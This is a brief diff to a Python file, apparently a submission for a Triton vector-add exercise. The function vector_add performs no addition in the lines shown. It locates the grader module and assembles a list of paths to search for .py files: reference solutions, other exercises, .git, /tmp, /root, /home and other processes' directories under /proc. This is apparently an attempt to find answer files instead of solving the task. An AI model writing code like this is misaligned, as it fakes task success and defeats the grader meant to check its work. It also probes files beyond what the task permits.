@@ -14,7 +14,14 @@ import triton.language as tl
 
 def vector_add(x, y):
     root = os.path.dirname(os.path.dirname(sys.modules["grader"].__file__))
-    places = [f"{root}/reference/**/*.py", f"{root}/exercises/*.py", f"{root}/.git/*", "/tmp/**/*.py", "/root/*", "/home/**/*.py"]
+    places = [
+        f"{root}/reference/**/*.py",
+        f"{root}/exercises/*.py",
+        f"{root}/.git/*",
+        "/tmp/**/*.py",
+        "/root/*",
+        "/home/**/*.py",
+    ]
     places += ["/proc/*/cwd/*.py", "/proc/[0-9]*/root/tmp/*/*.py", "/var/tmp/**"]
     mine = os.path.dirname(os.path.realpath(__file__))
     for place in places:
